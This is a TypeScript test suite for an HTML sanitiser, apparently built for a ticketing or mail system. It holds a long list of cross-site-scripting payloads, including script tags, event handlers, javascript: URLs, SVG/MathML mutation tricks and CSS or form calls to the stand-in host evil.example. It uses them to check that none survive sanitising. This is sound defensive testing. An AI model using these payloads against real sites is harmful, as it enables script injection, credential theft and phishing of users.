import type { Element, Nodes } from "hast";
import { fromHtml } from "hast-util-from-html";
import { toHtml } from "hast-util-to-html";
import { describe, expect, it } from "vitest";
import { measureCpuMs } from "../../../test/helpers/cpu-time.ts";
import { SCHEMA } from "./html-schema.ts";
import { sanitiseHtml } from "./sanitise-html.ts";

const OWN_IMAGE = "/api/tickets/1/attachments/2";
const sanitise = (html: string) => sanitiseHtml(html, (id) => (id === "shot@mail" ? OWN_IMAGE : null));
const clean = (html: string) => sanitise(html).html;

/** Every element that a browser would build of it, in a page and in a piece of one. */
function elementsOf(html: string): Element[] {
  const found: Element[] = [];
  const walk = (node: Nodes) => {
    if (node.type === "comment") throw new Error("a comment was left");
    if (node.type === "element") found.push(node);
    if ("children" in node) node.children.forEach(walk);
    if (node.type === "element" && node.content) walk(node.content);
  };
  walk(fromHtml(html, { fragment: true }));
  const page = fromHtml(`<!doctype html><body>${html}`);
  const count = found.length;
  walk({ ...page, children: page.children.filter(({ type }) => type !== "doctype") });
  expect(found.length - count - 3).toBe(count);
  return found.slice(0, count);
}

const ALLOWED_PROPERTIES = new Set([
  ...Object.values(SCHEMA.attributes ?? {})
    .flat()
    .map((name) => (Array.isArray(name) ? name[0] : name)),
]);

/** Throws where anything could run, load, send or leave its place. */
function assertHarmless(html: string): void {
  for (const { tagName, properties } of elementsOf(html)) {
    expect(SCHEMA.tagNames).toContain(tagName);
    for (const [name, value] of Object.entries(properties)) {
      expect([...ALLOWED_PROPERTIES]).toContain(name);
      if (name === "href") expect(String(value)).toMatch(/^(?:https?:\/\/|mailto:|tel:)/);
      if (name === "src")
        expect(String(value)).toMatch(/^(?:\/api\/tickets\/|data:image\/(?:png|jpeg|gif|webp|bmp);base64,)/);
      if (name === "style")
        expect(String(value)).not.toMatch(/url|expression|import|behavio|position|\\|@|\/\*|javascript/i);
    }
    if (tagName === "a" && properties.href !== undefined) {
      expect(properties).toMatchObject({ rel: ["noopener", "noreferrer", "nofollow"], target: "_blank" });
    }
  }
  // What a browser builds of it, and writes out again, is the same: nothing changes its meaning on the way.
  expect(toHtml(fromHtml(html, { fragment: true }))).toBe(html);
}

const VECTORS: readonly string[] = [
  "<script>run()</script>",
  "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
  "<script/x>run()</script >",
  "<<script>run()//<</script>",
  "<scr<script>ipt>run()</scr</script>ipt>",
  "<img src=x onerror=run()>",
  "<img src=x oNeRrOr = 'run()'>",
  '<img """><script>run()</script>">',
  "<img/src=x/onerror=run()>",
  "<img src=`javascript:run()`>",
  "<img src=javascript:run()>",
  "<img src='jav&#x09;ascript:run()'>",
  "<img dynsrc=javascript:run() lowsrc=javascript:run()>",
  "<img srcset='https://evil.example/x 1x' src=https://evil.example/y>",
  "<picture><source srcset=https://evil.example/x><img src=https://evil.example/x></picture>",
  "<svg onload=run()>",
  "<svg><script>run()</script></svg>",
  "<svg><a xlink:href=javascript:run()><text>x</text></a></svg>",
  "<svg><animate attributeName=href values=javascript:run() /></svg>",
  "<svg><foreignObject><img src=x onerror=run()></foreignObject></svg>",
  "<svg><style><img src=x onerror=run()></style></svg>",
  "<svg></p><style><a title='</style><img src=x onerror=run()>'>",
  "<math><mtext><table><mglyph><style><img src=x onerror=run()></style></mglyph></table></mtext></math>",
  "<math><mi xlink:href='javascript:run()'>x</mi></math>",
  "<form><math><mtext></form><form><mglyph><style></math><img src onerror=run()>",
  "<math><annotation-xml encoding='text/html'><style><img src=x onerror=run()></style></annotation-xml></math>",
  "<a href=javascript:run()>x</a>",
  "<a href=' javascript:run()'>x</a>",
  "<a href='&#1;javascript:run()'>x</a>",
  "<a href='java\nscript:run()'>x</a>",
  "<a href='JaVaScRiPt:run()'>x</a>",
  "<a href='javascript&colon;run()'>x</a>",
  "<a href='&#106;&#97;vascript:run()'>x</a>",
  "<a href='vbscript:run()'>x</a>",
  "<a href='data:text/html,<script>run()</script>'>x</a>",
  "<a href='data:text/html;base64,PHNjcmlwdD4='>x</a>",
  "<a href='blob:https://desk.example/1'>x</a>",
  "<a href='file:///etc/passwd'>x</a>",
  "<a href='//evil.example' target=_top>x</a>",
  "<a href='https://bank.example@evil.example/'>x</a>",
  "<a href=https://a.example onmouseover=run() style=position:fixed>x</a>",
  "<a href=https://a.example rel=opener target=_self ping=https://evil.example>x</a>",
  "<area href=javascript:run()><map name=x><area href=javascript:run()></map>",
  "<iframe src=javascript:run()></iframe>",
  "<iframe srcdoc='<script>run()</script>'></iframe>",
  "<frameset><frame src=javascript:run()></frameset>",
  "<object data=javascript:run()><p>x</p></object>",
  "<embed src=//evil.example/x.swf>",
  "<applet code=x></applet>",
  "<base href=https://evil.example/>",
  "<meta http-equiv=refresh content='0;url=https://evil.example'>",
  "<link rel=stylesheet href=https://evil.example/x.css>",
  "<style>@import url(https://evil.example/x.css);body{background:url(https://evil.example)}</style>",
  "<style><!--</style><script>run()</script>-->",
  "<p style='background:url(https://evil.example/x)'>x</p>",
  "<p style='background-image:url(//evil.example/x);color:red'>x</p>",
  "<p style='width:expression(run())'>x</p>",
  "<p style='w\\69 dth:1px;b\\61ckground:u\\72l(//evil.example)'>x</p>",
  "<p style='color:red/*'>x</p><p style='*/;background:url(//x)'>y</p>",
  "<p style='-moz-binding:url(//evil.example/x)'>x</p>",
  "<p style='behavior:url(x.htc)'>x</p>",
  "<p style='position:fixed;top:0;left:0;width:100%;height:100%;z-index:9'>Sign in again</p>",
  "<p style='margin:-500px'>x</p>",
  "<p style=\"font-family:'x;background:url(//e)'\">x</p>",
  "<body onload=run() background=https://evil.example/x>x</body>",
  "<table background=https://evil.example/x><td background=https://evil.example/y>x",
  "<input autofocus onfocus=run()>",
  "<form action=https://evil.example><input name=password><button>Go</button></form>",
  "<button formaction=javascript:run()>x</button>",
  "<textarea></textarea><script>run()</script>",
  "<textarea><img title='</textarea><img src=x onerror=run()>'></textarea>",
  "<select><option><img src=x onerror=run()></select>",
  "<details open ontoggle=run()>x</details>",
  "<video src=https://evil.example poster=https://evil.example/x><source onerror=run()></video>",
  "<audio src=x onerror=run()></audio>",
  "<marquee onstart=run()>x</marquee>",
  "<isindex action=javascript:run() type=image>",
  "<noscript><p title='</noscript><img src=x onerror=run()>'></noscript>",
  "<noembed><img title='</noembed><img src=x onerror=run()>'></noembed>",
  "<xmp><p title='</xmp><img src=x onerror=run()>'></xmp>",
  "<title><img title='</title><img src=x onerror=run()>'></title>",
  "<template><script>run()</script></template>",
  "<plaintext><script>run()</script>",
  "<!--[if gte IE 4]><script>run()</script><![endif]-->",
  "<!--><img src=x onerror=run()>-->",
  "<!-- --!><img src=x onerror=run()> -->",
  "<?xml version='1.0'?><script>run()</script>",
  "<![CDATA[<script>run()</script>]]>",
  "<div id=location name=cookie class=modal>x</div>",
  "<a id=a><a id=a name=b href=https://a.example>x</a>",
  "<p title='\"><script>run()</script>'>x</p>",
  '<p title="&quot;&gt;&lt;script&gt;run()">x</p>',
  "<p xmlns='http://www.w3.org/2000/svg' onclick=run()>x</p>",
  "<x:script xmlns:x='http://www.w3.org/1999/xhtml'>run()</x:script>",
  "<custom-element onclick=run()>x</custom-element>",
  "<p is=x-thing slot=y part=z contenteditable tabindex=1 accesskey=x popover draggable=true>x</p>",
  "<img src='data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9cnVuKCk+'>",
  "<img src='data:text/html;base64,PHNjcmlwdD4='>",
  "<img src=cid:unknown@mail>",
  "<table><tr><td><a href=javascript:run()><table><td><script>run()</script>",
  "+ADw-script+AD4-run()+ADw-/script+AD4-",
  "\u0000<scr\u0000ipt>run()</script>",
  '<a href="tel:+49\u202e123" title="\u2028">x</a>',
  "<li><td><tr><caption><col><tbody>loose",
  "<p><b><i><div></b>x</i></div><table><b>y</table>",
];

describe("sanitiseHtml", () => {
  it.each(VECTORS)("leaves nothing that runs, loads or sends of %s", (vector) => {
    assertHarmless(clean(vector));
    assertHarmless(clean(`<div title="${vector}">${vector}<p>after ${vector}</div>`));
  });

  it("keeps words, marking, tables and links", () => {
    const html =
      '<h2>Outage</h2><p style="color: #c00; font-weight: bold">Now <b>down</b>, <i>sorry</i>.</p>' +
      '<table border="1"><tbody><tr><td colspan="2" align="right">web1</td></tr></tbody></table>' +
      "<ul><li>one</li></ul><blockquote>quoted</blockquote><pre>a  b</pre>";
    expect(clean(html)).toBe(html);
    expect(clean('<a href="https://status.example/?a=1&amp;b=2">status</a>')).toBe(
      '<a href="https://status.example/?a=1&#x26;b=2" rel="noopener noreferrer nofollow" target="_blank">status</a>',
    );
    expect(clean("<center><font color=red face=Arial>x</font></center>")).toBe(
      '<center><font color="red" face="Arial">x</font></center>',
    );
  });

  it("keeps the words of what it takes away, but no code", () => {
    expect(
      clean("<form>Your <blink>name</blink>: <input></form><script>run()</script><style>p{}</style>"),
    ).toBe("Your name: ");
    expect(clean("<html><head><title>t</title></head><body bgcolor=red>words</body></html>")).toBe("words");
  });

  it("loads no image from elsewhere, and keeps its address for whoever asks", () => {
    const { html, remoteImages } = sanitise(
      '<img src="https://track.example/p.gif?id=1" width=1 height=1 alt=logo><img src="//cdn.example/a.png">',
    );
    expect(remoteImages).toBe(2);
    const [first, second] = elementsOf(html);
    expect(first?.properties).toEqual({
      alt: "logo",
      dataOriginalSrc: "https://track.example/p.gif?id=1",
      height: 1,
      loading: "lazy",
      referrerPolicy: "no-referrer",
      width: 1,
    });
    expect(second?.properties.dataOriginalSrc).toBe("https://cdn.example/a.png");
  });

  it("takes no address from the mail for one that it has kept", () => {
    expect(clean("<img data-original-src=javascript:run() src=cid:shot@mail>")).not.toContain("javascript");
  });

  it("shows images of the mail itself, by content id or in the HTML", () => {
    expect(elementsOf(clean("<img src=cid:shot@mail>"))[0]?.properties.src).toBe(OWN_IMAGE);
    expect(elementsOf(clean("<img src=CID:shot%40mail>"))[0]?.properties.src).toBe(OWN_IMAGE);
    expect(clean("<img src=cid:gone@mail>")).toBe("");
    expect(clean('<img src="data:image/png;base64,iVBORw0KGgo=">')).toContain(
      'src="data:image/png;base64,iVBORw0KGgo="',
    );
  });

  it("keeps the words however deep and many the elements are", () => {
    const deep = clean(`${"<div>".repeat(5_000)}words`);
    expect(deep).toContain("words");
    const many = clean(`${"<b>x</b>".repeat(30_000)}words`);
    expect(many.endsWith("words")).toBe(true);
    expect(many.replace(/<[^>]*>/g, "")).toBe(`${"x".repeat(30_000)}words`);
    expect(clean("x".repeat(1_500_000))).toHaveLength(1_000_000);
  });

  it.each([
    ["elements inside one another", "<div>"],
    ["words that belong before their table", "<table><b>x</b>"],
    ["formatting that is never closed", "<font size=1><p>"],
    ["tables inside one another", "<table><tr><td>"],
    ["attributes without an end", "<p a=1 b=2 "],
    ["brackets", "<"],
    ["foreign elements", "<svg><g>"],
  ])("takes a bounded time for a megabyte of %s", (_what, piece) => {
    const html = piece.repeat(Math.ceil(1_000_000 / piece.length));
    expect(measureCpuMs(() => clean(html))).toBeLessThan(8_000);
  });
});
